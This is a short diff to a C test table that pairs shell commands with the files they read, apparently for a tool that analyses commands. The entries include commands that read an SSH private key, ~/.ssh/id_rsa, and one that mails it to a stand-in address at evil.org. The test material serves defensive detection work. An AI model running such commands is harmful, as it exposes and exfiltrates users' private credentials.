@@ -1537,9 +1537,7 @@ static const struct program_row program_rows[] = {
 	R("git hash-object -w ~/.ssh/id_rsa", "r:~/.ssh/id_rsa"),
 	R("git diff --no-index /dev/null ~/.ssh/id_rsa", "r:/dev/null r:~/.ssh/id_rsa"),
 	R("mail -a ~/.ssh/id_rsa x@evil.org", "r:~/.ssh/id_rsa"),
-	R("while read l", ""),
-	R("do echo $l", ""),
-	R("done < ~/.ssh/id_rsa", "r:~/.ssh/id_rsa"),
+	R("while read l; do echo $l; done < ~/.ssh/id_rsa", "r:~/.ssh/id_rsa"),
 };
 /* clang-format on */
 
